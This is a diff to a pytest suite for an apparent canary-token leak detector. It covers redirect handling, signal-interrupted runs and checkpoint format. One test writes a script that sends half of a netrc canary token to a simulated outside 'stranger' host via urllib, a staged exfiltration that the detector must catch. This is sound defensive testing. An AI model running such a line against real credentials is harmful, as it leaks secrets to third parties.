@@ -8,9 +8,11 @@ import signal
 from collections.abc import Iterator
 from pathlib import Path
 from ssl import PROTOCOL_TLS_SERVER, SSLContext
+from threading import Timer
 
 import pytest
 import trustme
+from canary.birds import halves
 from canary.world import CANARIES, TOKENS, Fault, Host, World, shows, told, until, world
 from simulator.server import running
 
@@ -34,7 +36,7 @@ def test_of_runs_with_nothing_wrong_nothing_is_left(there: World) -> None:
     assert [r.path for r in there.check.received] == [f"/{CANARIES['ping']}/start", f"/{CANARIES['ping']}"]
     assert there.watch.ours, "no command line of ours was looked at"
     there.write("log.jsonl", there.run("log", "export").out)
-    assert '"signature"' in there.write("head.json", there.run("log", "checkpoint").out).read_text()
+    assert '"hmac-sha256"' in there.write("head.json", there.run("log", "checkpoint").out).read_text()
     there.run("report", "--format", "html", "--output", "report.html")
     there.run("check", "--annotate")
     there.run("doctor", "--full", "--format", "json")
@@ -87,7 +89,11 @@ def broken(request: Request) -> Answer:
 def moved(request: Request) -> Answer:
     """To another path of this host, which tells it."""
     told = request.headers.get("authorization", "").replace(" ", "%20")
-    return Answer(404, {}) if "/moved" in request.path else Answer(301, {}, {"Location": f"/moved/{told}"})
+    return (
+        Answer(404, {})
+        if request.path.startswith("/else")
+        else Answer(301, {}, {"Location": f"/else/{told}"})
+    )
 
 
 REFUSALS: dict[str, tuple[Fault, int]] = {
@@ -303,10 +309,8 @@ def test_a_run_that_is_ended_midway(there: World, by: signal.Signals, code: int)
     process = there.start("sync")
     until(lambda: there.web.received)
     process.send_signal(by)
-    if by is signal.SIGTERM:
-        over.append(1)
+    Timer(0.5, over.append, [1]).start()
     done = there.ended(process)
-    over.append(1)
     assert done.code == code, done
 
 
@@ -320,7 +324,7 @@ def test_a_canary_is_caught_wherever_it_is(tmp_path: Path) -> None:
         there.said.append(("stdout", f"401 for {CANARIES['proxy']}".encode()))
         leak = "import sys, time; time.sleep(0.5)"
         there.run(CANARIES["ping"], program=["-c", leak])
-        send = f"import urllib.request as u; u.urlopen('{{}}?q={CANARIES['checkpoints'][-12:]}')"
+        send = f"import urllib.request as u; u.urlopen('{{}}?q={halves(CANARIES['netrc'])[1]}')"
         there.write("send.py", send.format(there.urls["stranger"]))
         there.run(program=["send.py"])
         caught = there.leaks()
@@ -330,4 +334,4 @@ def test_a_canary_is_caught_wherever_it_is(tmp_path: Path) -> None:
         ("proxy", "stdout"),
         ("ping", "a command line"),
     } <= caught
-    assert any(name == "checkpoints" and where.startswith("at stranger: query") for name, where in caught)
+    assert any(name == "netrc" and where.startswith("at stranger: query") for name, where in caught)
